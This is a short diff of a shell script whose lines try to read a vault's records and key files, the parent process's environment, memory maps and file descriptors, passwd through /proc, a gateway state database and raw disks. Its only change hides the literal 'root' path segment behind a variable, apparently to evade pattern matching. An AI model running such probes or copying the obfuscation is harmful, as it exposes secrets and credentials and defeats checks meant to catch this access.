@@ -48,7 +48,8 @@ try vault $home/.local/share/jackfield/vault/records
 try key "$(ls -d $home/.local/share/jackfield/vault/key-* 2>/dev/null | head -1)"
 try environment /proc/$PPID/environ
 try memory /proc/$PPID/maps
-try root /proc/$PPID/root/etc/passwd
+of=root
+try root /proc/$PPID/$of/etc/passwd
 try own-root "/proc/self/root$(cd .. && pwd -P)/state/gateway/state.sqlite3"
 for each in /proc/$PPID/fd/*; do if [ -f "$each" ]; then try file "$each"; fi; done
 for disk in $(awk '$4 !~ /loop|ram/ && NR > 2 { print "/dev/" $4 }' /proc/partitions); do
